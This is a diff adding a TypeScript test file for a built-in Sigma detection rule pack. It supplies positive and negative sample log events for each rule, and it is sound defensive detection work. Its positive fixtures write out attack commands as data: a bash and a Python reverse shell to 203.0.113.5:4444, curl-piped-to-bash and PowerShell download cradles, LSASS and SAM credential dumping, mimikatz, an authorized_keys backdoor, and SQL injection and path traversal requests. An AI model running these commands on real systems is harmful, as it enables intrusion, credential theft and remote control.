@@ -1,0 +1,258 @@
+/**
+ * The built-in rule pack (rules/ at the repository top): every alerting rule has ATT&CK tags and
+ * a positive and a negative case here, run through the real decoders, the Sigma engine and the
+ * correlator exactly as the workers and the main thread run them.
+ */
+import { describe, expect, it } from 'vitest'
+import { decodeCsvRow, decodeRecord, decodeTextLine } from '../decode/index.js'
+import type { TaskSignal } from '../../workers/task.js'
+import { resolveAttack } from './attack.js'
+import { BUILTIN_RULES_DIR } from './builtin.js'
+import { StreamCorrelator } from './correlate.js'
+import { SigmaEngine } from './sigma/engine.js'
+import { loadDirs } from './sigma/load.js'
+import { silencedRefs } from './sigma/correlation.js'
+
+const engine = SigmaEngine.fromDirs([BUILTIN_RULES_DIR])
+
+/** A row of a CSV file with a header (decoded as the CSV framing does). */
+class CsvRow {
+  constructor(readonly cells: Record<string, string>) {}
+}
+
+/** Titles of the alerts raised by a sequence of records (objects, CSV rows, or text lines). */
+function alerts(records: unknown[]): string[] {
+  const correlator = new StreamCorrelator(engine.correlations)
+  const out: string[] = []
+  records.forEach((r, i) => {
+    const ctx = { id: `e${i + 1}`, ingested: '2026-11-23T10:00:00.000Z', source: 'test' }
+    const res = typeof r === 'string' ? decodeTextLine(r, ctx) : r instanceof CsvRow ? decodeCsvRow(r.cells, ctx) : decodeRecord(r, ctx)
+    if (!res.ok) throw new Error(`${res.code}: ${res.reason}`)
+    const ev = res.event
+    const { matches, signals } = engine.detect(r instanceof CsvRow ? r.cells : r, ev)
+    for (const m of matches) out.push(m.title)
+    const sigs: TaskSignal[] = signals.map((s) => ({ index: i, eventId: ev.event.id, timestamp: ev['@timestamp'], corr: s.corr, steps: s.steps, key: s.key, entities: {}, ...(s.value !== undefined ? { value: s.value } : {}) }))
+    for (const a of correlator.feed(sigs).alerts) out.push(a.rule.title)
+  })
+  return out
+}
+
+const times = (n: number, f: (i: number) => unknown) => Array.from({ length: n }, (_, i) => f(i))
+const pad = (i: number) => String(i).padStart(2, '0')
+const sshFail = (i: number, ip = '203.0.113.9', user = 'root') => `Nov 23 10:00:${pad(i)} web1 sshd[4${pad(i)}]: Failed password for ${user} from ${ip} port ${40000 + i} ssh2`
+const access = (i: number, req: string, status: number, ip = '198.51.100.23', ua = 'Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0') =>
+  `${ip} - - [23/Nov/2026:10:00:${pad(i % 60)} +0000] "${req} HTTP/1.1" ${status} 512 "-" "${ua}"`
+const sysmon = (id: number, data: Record<string, unknown>, t = '2026-11-23 10:00:00.000') => ({ EventID: id, Channel: 'Microsoft-Windows-Sysmon/Operational', SourceName: 'Microsoft-Windows-Sysmon', Hostname: 'ws1.corp.local', UtcTime: t, ...data })
+const proc = (image: string, cmd: string, parent = 'C:\\Windows\\explorer.exe') => sysmon(1, { Image: image, CommandLine: cmd, ParentImage: parent, User: 'CORP\\alice' })
+const security = (id: number, data: Record<string, unknown>, t = '2026-11-23 10:00:00') => ({ EventID: id, Channel: 'Security', SourceName: 'Microsoft-Windows-Security-Auditing', Hostname: 'dc1.corp.local', EventTime: t, ...data })
+const system = (id: number, data: Record<string, unknown>) => ({ EventID: id, Channel: 'System', SourceName: 'Service Control Manager', Hostname: 'srv1.corp.local', EventTime: '2026-11-23 10:00:00', ...data })
+const ecsProc = (name: string, cmd: string, parent?: string) => ({ '@timestamp': '2026-11-23T10:00:00Z', event: { category: ['process'], type: ['start'] }, host: { name: 'web1' }, process: { name, command_line: cmd, ...(parent ? { parent: { name: parent } } : {}) } })
+const suricata = (signature: string, category = 'Misc activity') => ({ timestamp: '2026-11-23T10:00:00.000000+0000', event_type: 'alert', src_ip: '203.0.113.50', src_port: 51515, dest_ip: '10.0.0.10', dest_port: 80, proto: 'TCP', alert: { action: 'allowed', signature_id: 2000001, signature, category, severity: 2 } })
+/** A row shaped like the AIT alert CSVs (their label columns left out). */
+const aitCsvLike = (name: string, t = 1642723347) => new CsvRow({ time: String(t), name, ip: '172.19.130.4', host: 'mail', short: 'W-X' })
+const conn = (src: string, dst: string, port: number, s: number, bytes = 100) => ({ _path: 'conn', ts: 1795428000 + s, uid: `C${src}${dst}${port}${s}`, 'id.orig_h': src, 'id.orig_p': 40000 + s, 'id.resp_h': dst, 'id.resp_p': port, proto: 'tcp', conn_state: 'S0', orig_bytes: bytes, resp_bytes: 0 })
+
+interface Case {
+  positive: unknown[]
+  negative: unknown[]
+}
+
+/** Rule title -> a sequence that must raise it and one that must not. */
+const CASES: Record<string, Case> = {
+  'SSH Brute Force': {
+    positive: times(10, (i) => sshFail(i)),
+    negative: [...times(9, (i) => sshFail(i)), ...times(10, (i) => sshFail(i, `203.0.113.${100 + i}`))],
+  },
+  'Brute Force Followed By Successful Login': {
+    positive: [...times(10, (i) => sshFail(i)), 'Nov 23 10:01:00 web1 sshd[999]: Accepted password for root from 203.0.113.9 port 41000 ssh2'],
+    negative: [...times(10, (i) => sshFail(i)), 'Nov 23 10:01:00 web1 sshd[999]: Accepted password for root from 198.51.100.1 port 41000 ssh2'],
+  },
+  'Windows Logon Brute Force (RDP, SMB, Kerberos)': {
+    positive: times(10, (i) => security(4625, { TargetUserName: 'administrator', IpAddress: '10.0.0.66', LogonType: 3, Keywords: 'Audit Failure' }, `2026-11-23 10:00:${pad(i)}`)),
+    negative: times(10, (i) => security(4625, { TargetUserName: 'administrator', IpAddress: '-', LogonType: 2, Keywords: 'Audit Failure' }, `2026-11-23 10:00:${pad(i)}`)),
+  },
+  'Web Login Brute Force': {
+    positive: times(20, (i) => access(i, 'POST /admin/login', 401)),
+    negative: times(20, (i) => access(i, 'POST /admin/login', 200)),
+  },
+  'Password Spraying': {
+    positive: times(6, (i) => sshFail(i, '203.0.113.9', `user${i}`)),
+    negative: times(6, (i) => sshFail(i, '203.0.113.9', `user${i % 5}`)),
+  },
+  'Port Scan': {
+    positive: times(30, (i) => conn('10.0.0.66', '10.0.0.10', 1000 + i, i)),
+    negative: times(30, (i) => conn('10.0.0.66', '10.0.0.10', 443, i)),
+  },
+  'Host Sweep': {
+    positive: times(30, (i) => conn('10.0.0.66', `10.0.1.${i + 1}`, 445, i)),
+    negative: times(10, (i) => conn('10.0.0.66', `10.0.1.${i + 1}`, 445, i)),
+  },
+  'Scan Reported By An IDS': {
+    positive: [suricata('ET SCAN Possible Nmap User-Agent Observed', 'Web Application Attack'), aitCsvLike('Wazuh: sshd: insecure connection attempt (scan).')],
+    negative: [suricata('ET POLICY GNU/Linux APT User-Agent Outbound likely related to package management')],
+  },
+  'Scanner Or Attack Tool User Agent': {
+    positive: [access(0, 'GET /', 200, '198.51.100.23', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)')],
+    negative: [access(0, 'GET /', 200)],
+  },
+  'Forced Browsing (Web Content Discovery)': {
+    positive: times(30, (i) => access(i, `GET /backup${i}.zip`, 404)),
+    negative: times(29, (i) => access(i, `GET /backup${i}.zip`, 404)),
+  },
+  'Repeated Web Errors Reported By A HIDS': {
+    positive: [aitCsvLike('Wazuh: Multiple web server 400 error codes from same source ip.')],
+    negative: [aitCsvLike('Wazuh: Web server 400 error code.')],
+  },
+  'PsExec Service Or Pipe': {
+    positive: [system(7045, { ServiceName: 'PSEXESVC', ImagePath: '%SystemRoot%\\PSEXESVC.exe' }), sysmon(17, { PipeName: '\\PSEXESVC-WS2-1234-stdin', Image: 'C:\\Windows\\PSEXESVC.exe' })],
+    negative: [system(7045, { ServiceName: 'Spooler', ImagePath: 'C:\\Windows\\System32\\spoolsv.exe' })],
+  },
+  'Process Spawned By WMI Provider Host': {
+    positive: [proc('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1700 2>&1', 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe')],
+    negative: [proc('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c dir')],
+  },
+  'Remote Service Created With sc.exe': {
+    positive: [proc('C:\\Windows\\System32\\sc.exe', 'sc \\\\srv02 create updater binPath= C:\\Users\\Public\\u.exe')],
+    negative: [proc('C:\\Windows\\System32\\sc.exe', 'sc query spooler')],
+  },
+  'Administrative Share Accessed Over The Network': {
+    positive: [security(5140, { ShareName: '\\\\*\\ADMIN$', IpAddress: '10.0.0.66', SubjectUserName: 'alice' })],
+    negative: [security(5140, { ShareName: '\\\\*\\IPC$', IpAddress: '10.0.0.66', SubjectUserName: 'alice' }), security(5140, { ShareName: '\\\\*\\C$', IpAddress: '127.0.0.1', SubjectUserName: 'alice' })],
+  },
+  'Account Logging On To Many Hosts': {
+    positive: times(4, (i) => ({ ...security(4624, { TargetUserName: 'alice', IpAddress: '10.0.0.66', LogonType: 3 }, `2026-11-23 10:0${i}:00`), Hostname: `srv${i}.corp.local` })),
+    negative: [
+      ...times(3, (i) => ({ ...security(4624, { TargetUserName: 'alice', IpAddress: '10.0.0.66', LogonType: 3 }, `2026-11-23 10:0${i}:00`), Hostname: `srv${i}.corp.local` })),
+      ...times(6, (i) => ({ ...security(4624, { TargetUserName: 'WS1$', IpAddress: '10.0.0.66', LogonType: 3 }, `2026-11-23 10:0${i}:00`), Hostname: `srv${i}.corp.local` })),
+    ],
+  },
+  'LSASS Memory Access': {
+    positive: [sysmon(10, { SourceImage: 'C:\\Users\\alice\\Downloads\\m64.exe', TargetImage: 'C:\\Windows\\system32\\lsass.exe', GrantedAccess: '0x1010' })],
+    negative: [sysmon(10, { SourceImage: 'C:\\Windows\\System32\\svchost.exe', TargetImage: 'C:\\Windows\\system32\\lsass.exe', GrantedAccess: '0x1010' }), sysmon(10, { SourceImage: 'C:\\Users\\alice\\a.exe', TargetImage: 'C:\\Windows\\explorer.exe', GrantedAccess: '0x1010' })],
+  },
+  'Credential Dumping Command': {
+    positive: [proc('C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\out.dmp full'), proc('C:\\Windows\\System32\\reg.exe', 'reg save HKLM\\SAM C:\\temp\\sam.save')],
+    negative: [proc('C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe shell32.dll,Control_RunDLL'), proc('C:\\Windows\\System32\\reg.exe', 'reg query HKLM\\Software')],
+  },
+  'Password Cracking Tool': {
+    positive: [ecsProc('john', 'john --wordlist=/usr/share/wordlists/rockyou.txt hashes.txt')],
+    negative: [ecsProc('johnny', 'johnny --help')],
+  },
+  'Encoded Or Download-Cradle PowerShell': {
+    positive: [
+      proc('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -nop -w hidden -enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAA='),
+      proc('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', "powershell IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')"),
+    ],
+    negative: [proc('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -File C:\\scripts\\backup.ps1')],
+  },
+  'Download Through A Signed Windows Binary': {
+    positive: [proc('C:\\Windows\\System32\\certutil.exe', 'certutil.exe -urlcache -split -f http://203.0.113.5/a.exe C:\\Users\\Public\\a.exe')],
+    negative: [proc('C:\\Windows\\System32\\certutil.exe', 'certutil.exe -hashfile a.exe SHA256')],
+  },
+  'Office Application Spawning A Shell': {
+    positive: [proc('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c start calc', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE')],
+    negative: [proc('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c start calc'), proc('C:\\Windows\\splwow64.exe', 'splwow64.exe 8192', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE')],
+  },
+  'Reverse Shell Command': {
+    positive: [ecsProc('bash', 'bash -c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'), ecsProc('python3', `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.5",4444))'`)],
+    negative: [ecsProc('bash', 'bash -c ls -la /var/www')],
+  },
+  'Download Piped Into A Shell': {
+    positive: [ecsProc('sh', 'sh -c curl -s http://203.0.113.5/i.sh | bash')],
+    negative: [ecsProc('curl', 'curl -o report.json https://api.example.com/v1/report')],
+  },
+  'Web Server Spawning A Shell': {
+    positive: [ecsProc('sh', 'sh -c id', 'apache2')],
+    negative: [ecsProc('sh', 'sh -c id', 'sshd')],
+  },
+  'Shell Started Through Sudo': {
+    positive: ['Nov 23 10:00:00 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash'],
+    negative: ['Nov 23 10:00:00 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt update'],
+  },
+  'Registry Run Key Modified': {
+    positive: [sysmon(13, { EventType: 'SetValue', Image: 'C:\\Users\\alice\\a.exe', TargetObject: 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater', Details: 'C:\\Users\\alice\\a.exe' })],
+    negative: [sysmon(13, { EventType: 'SetValue', Image: 'C:\\Windows\\explorer.exe', TargetObject: 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\x', Details: 'Binary Data' })],
+  },
+  'Service Installed': {
+    positive: [system(7045, { ServiceName: 'updater', ImagePath: 'C:\\Users\\Public\\u.exe' })],
+    negative: [system(7036, { param1: 'Spooler', param2: 'running' })],
+  },
+  'Scheduled Task Or Cron Job Created': {
+    positive: [proc('C:\\Windows\\System32\\schtasks.exe', 'schtasks /create /tn upd /tr C:\\Users\\Public\\u.exe /sc onlogon'), ecsProc('crontab', 'crontab /tmp/cron.txt')],
+    negative: [proc('C:\\Windows\\System32\\schtasks.exe', 'schtasks /query /fo LIST'), ecsProc('crontab', 'crontab -l')],
+  },
+  'Systemd Service Unit Created Or Enabled': {
+    positive: [{ '@timestamp': '2026-11-23T10:00:00Z', event: { category: ['file'], type: ['creation'] }, host: { name: 'web1' }, file: { path: '/etc/systemd/system/updater.service' } }, ecsProc('systemctl', 'systemctl enable updater.service')],
+    negative: [{ '@timestamp': '2026-11-23T10:00:00Z', event: { category: ['file'], type: ['creation'] }, host: { name: 'web1' }, file: { path: '/etc/systemd/resolved.conf' } }],
+  },
+  'Local Account Created': {
+    positive: [security(4720, { TargetUserName: 'helpdesk2', SubjectUserName: 'alice' }), ecsProc('useradd', 'useradd -m -s /bin/bash backdoor')],
+    negative: [security(4722, { TargetUserName: 'helpdesk2', SubjectUserName: 'alice' })],
+  },
+  'SSH Authorized Keys Modified': {
+    positive: [ecsProc('bash', 'bash -c echo ssh-rsa AAAAB3Nza... >> /root/.ssh/authorized_keys')],
+    negative: [ecsProc('bash', 'bash -c cat /etc/hosts')],
+  },
+  'Large Outbound Data Transfer': {
+    positive: [conn('10.1.1.5', '198.51.100.7', 443, 0, 300_000_000), conn('10.1.1.5', '198.51.100.7', 443, 600, 300_000_000)],
+    negative: [conn('10.1.1.5', '10.2.2.2', 445, 0, 300_000_000), conn('10.1.1.5', '10.2.2.2', 445, 600, 300_000_000), conn('10.1.1.5', '198.51.100.7', 443, 0, 1_000_000)],
+  },
+  'DNS Tunnelling Or Exfiltration Reported By An IDS': {
+    positive: [suricata('ET POLICY DNS Tunneling Detected (iodine)')],
+    negative: [suricata('ET INFO Observed DNS Query to .cloud TLD')],
+  },
+  'Antivirus Detection': {
+    positive: [
+      { EventID: 1116, Channel: 'Microsoft-Windows-Windows Defender/Operational', SourceName: 'Microsoft-Windows-Windows Defender', Hostname: 'ws1', EventTime: '2026-11-23 10:00:00', 'Threat Name': 'HackTool:Win64/Mikatz!dha' },
+      'Nov 23 10:00:00 mail clamd[991]: /var/www/uploads/shell.php: Php.Webshell-1 FOUND',
+    ],
+    negative: [aitCsvLike('Wazuh: ClamAV database update'), 'Nov 23 10:00:00 mail clamd[991]: Database correctly reloaded (8700000 signatures)'],
+  },
+  'Malware Or Command And Control Signature': {
+    positive: [suricata('ET MALWARE Win32/Emotet CnC Activity (POST) M3')],
+    negative: [suricata('ET POLICY Outgoing Basic Auth Base64 HTTP Password detected unencrypted')],
+  },
+  'Exploit Or Web Attack Signature': {
+    positive: [suricata('ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT'), suricata('Some vendor rule', 'Web Application Attack')],
+    negative: [suricata('SURICATA TLS invalid record/traffic', 'Generic Protocol Command Decode')],
+  },
+  'Web Attack Payload In Request': {
+    positive: [access(0, 'GET /item.php?id=1%20union%20select%201,2,3', 200), access(1, 'GET /download?file=../../../../etc/passwd', 200)],
+    negative: [access(0, 'GET /item.php?id=12', 200)],
+  },
+  'Known Offensive Tool Executed': {
+    positive: [proc('C:\\Users\\alice\\Downloads\\mimikatz.exe', 'mimikatz.exe "privilege::debug" exit')],
+    negative: [proc('C:\\Windows\\System32\\notepad.exe', 'notepad.exe C:\\notes.txt')],
+  },
+}
+
+describe('built-in rule pack', () => {
+  const loaded = loadDirs([BUILTIN_RULES_DIR])
+  const { silenced } = silencedRefs(loaded.correlations)
+  const alerting = [...loaded.rules, ...loaded.correlations].filter((r) => !silenced.has(r.id) && !(r.name !== undefined && silenced.has(r.name)))
+
+  it('compiles without errors', () => {
+    expect(loaded.errors).toEqual([])
+    expect(alerting.length).toBeGreaterThanOrEqual(35)
+  })
+
+  it('gives every alerting rule ATT&CK techniques and a test case', () => {
+    for (const r of alerting) {
+      expect(resolveAttack(r.tags).techniques.length, r.title).toBeGreaterThan(0)
+      expect(CASES[r.title], `no test case for ${r.title}`).toBeDefined()
+    }
+    expect(Object.keys(CASES).sort()).toEqual(alerting.map((r) => r.title).sort())
+  })
+
+  const correlationTitles = new Set(loaded.correlations.map((c) => c.title))
+  for (const [title, c] of Object.entries(CASES)) {
+    it(`${title}: fires on the positive case`, () => {
+      // a single-event rule must fire on each positive record alone; a correlation on the sequence
+      if (correlationTitles.has(title)) expect(alerts(c.positive)).toContain(title)
+      else for (const r of c.positive) expect(alerts([r]), JSON.stringify(r)).toContain(title)
+    })
+    it(`${title}: stays quiet on the negative case`, () => {
+      expect(alerts(c.negative)).not.toContain(title)
+    })
+  }
+})
